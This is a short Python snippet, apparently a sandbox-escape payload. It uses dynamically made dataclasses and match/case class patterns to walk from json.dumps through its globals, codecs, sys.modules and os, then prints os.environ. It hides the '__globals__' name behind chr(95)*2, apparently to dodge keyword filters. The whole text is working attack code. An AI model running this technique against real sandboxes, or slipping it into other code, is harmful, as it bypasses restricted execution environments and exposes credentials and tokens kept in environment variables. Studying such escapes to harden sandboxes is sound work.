# reaches: make_dataclass patterns walk from a function to the environment
import dataclasses, json
from abc import ABC
def reader(name, kind):
    c = dataclasses.make_dataclass("C", [(name, object)], bases=(ABC,))
    c.register(type(kind))
    return c
u = chr(95) * 2
C = reader(u + "globals" + u, json.dumps)
D = reader("modules", json)
E = reader("environ", json)
F = reader("sys", json)
match json.dumps:
    case C({"codecs": F(D({"os": E(x)}))}) :
        print(x)
